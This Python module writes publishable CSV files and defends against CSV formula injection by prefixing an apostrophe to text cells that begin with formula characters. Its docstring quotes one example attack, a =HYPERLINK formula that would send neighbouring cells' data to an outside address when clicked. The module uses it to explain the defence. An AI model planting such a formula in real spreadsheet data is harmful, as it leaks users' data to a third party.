"""CSV files for the public to open in Excel or LibreOffice: UTF-8 with a BOM (so the diacritics show), CRLF lines,
and no cell a spreadsheet would run.

A cell that starts with "=", "+", "-" or "@" (or a tab or carriage return before one) is read as a formula:
``=HYPERLINK("http://…?"&A1,"x")`` in a procedure's name would send the neighbouring cells away when clicked.
Such a text cell starts with an apostrophe, which spreadsheets show as text and do not print (OWASP's advice for
CSV injection). Numbers are written as they are.
"""

from __future__ import annotations

import csv
import io
from typing import Any, Iterable

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class SpreadsheetWriter:
    """``csv.writer``'s ``writerow`` and ``writerows``, into bytes ready to publish (``getvalue``)."""

    def __init__(self) -> None:
        self._out = io.StringIO()
        self._writer = csv.writer(self._out, lineterminator="\r\n")

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([inert(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)

    def getvalue(self) -> bytes:
        return ("\ufeff" + self._out.getvalue()).encode("utf-8")


def inert(cell: Any) -> Any:
    """The cell, or the text with an apostrophe before it when a spreadsheet would read it as a formula."""
    return "'" + cell if isinstance(cell, str) and cell.startswith(_FORMULA_START) else cell
